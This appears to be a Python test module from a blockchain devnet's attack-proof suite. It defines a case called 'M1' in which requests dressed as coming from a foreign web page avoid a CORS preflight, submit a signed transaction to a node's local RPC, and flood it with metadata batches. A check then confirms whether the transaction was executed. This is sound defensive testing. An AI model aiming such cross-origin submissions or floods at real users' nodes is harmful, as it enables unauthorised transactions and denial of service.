"""What a web page can make a browser send to a node on its user's machine."""

from __future__ import annotations

import json

from devnet.launcher.layout import Devnet
from devnet.proofs.flood.attack import attack
from devnet.proofs.flood.http_client import ask, batch_body, call, call_body
from devnet.proofs.flood.peers.pool import with_client
from devnet.proofs.flood.rpc.posting import JSON, post_again_and_again
from devnet.proofs.flood.scene import SOURCE_ADDRESS, Scene, victim_of
from runtime.cryptography import ss58
from runtime.pallets.system import System
from wallet.client import ChainClient
from wallet.suri import keypair_from_suri

FROM_A_PAGE = {"Content-Type": "text/plain", "Origin": "https://page.example"}
USER = "//Charlie"


async def _was_submitted(net: Devnet) -> list[str]:
    """Whether the extrinsic that came with a foreign origin was taken: its signer's nonce then moved."""
    account = ss58.encode(keypair_from_suri(USER).account)
    body = call_body("system_accountNextIndex", account)
    answer = await ask(victim_of(net).ports.rpc, "POST", "/", body, SOURCE_ADDRESS, JSON)
    moved = json.loads(answer.body)["result"]
    return [f"a call with a foreign origin was executed: {moved} extrinsics of {USER} were taken"] if moved else []


@attack("M1", messages_max=5_000, aftermath=_was_submitted)
async def foreign_origin(scene: Scene) -> None:
    """POST as a foreign page sends it, without a preflight: a submission, and batches of metadata.

    The origin was looked at when the calls had run; the page sees 403, and what it wanted has happened.
    """

    async def submission(client: ChainClient) -> bytes:
        extrinsic = await client.sign(System.remark(remark=b"from a page"), keypair_from_suri(USER))
        return call_body("author_submitExtrinsic", "0x" + extrinsic.hex())

    bodies = [await with_client(scene.net, submission)]
    bodies += [batch_body([call("state_getMetadata", number=number) for number in range(100)])] * 3
    await post_again_and_again(scene, lambda number: bodies[number % len(bodies)], clients=4, headers=FROM_A_PAGE)
